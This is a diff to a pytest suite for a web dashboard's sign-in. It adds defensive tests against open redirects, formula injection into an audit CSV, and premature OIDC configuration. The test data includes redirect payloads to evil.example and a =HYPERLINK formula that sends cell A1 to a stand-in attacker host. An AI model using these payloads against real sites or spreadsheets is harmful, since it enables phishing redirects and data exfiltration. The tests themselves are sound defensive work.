@@ -84,7 +84,18 @@ def test_the_cookie_is_secure_over_https(app):
     assert response.status_code == 303 and "Secure" in response.headers["Set-Cookie"]
 
 
-@pytest.mark.parametrize("next_path", ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:x"])
+@pytest.mark.parametrize(
+    "next_path",
+    [
+        "https://evil.example/",
+        "//evil.example/",
+        "/\\evil.example",
+        "javascript:x",
+        "/\t/evil.example",
+        "/%09/evil",
+        "/\r/x",
+    ],
+)
 def test_next_never_leaves_the_site(anonymous, next_path):
     token = csrf_of(anonymous.get("/login").get_data(as_text=True))
     response = anonymous.post(
@@ -275,3 +286,16 @@ def test_a_request_under_way_during_sign_out_does_not_sign_in_again(app):
     late = app.server.test_client()
     late.set_cookie("stv_session", cookie)
     assert late.get("/").status_code == 303
+
+
+def test_a_name_typed_as_a_formula_reaches_the_audit_csv_as_text(app):
+    sign_in(app.server.test_client(), '=HYPERLINK("https://evil/?"&A1,"x")', "wrong")
+    csv_text = signed_in_client(app, "admin").get("/admin/audit.csv?action=sign-in-failed").get_data(as_text=True)
+    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
+
+
+def test_oidc_is_refused_until_it_is_built():
+    from dashboard.settings import SettingsError, load_settings
+
+    with pytest.raises(SettingsError, match="not available yet"):
+        load_settings({"STV_AUTH": "oidc"}, dotenv=None)
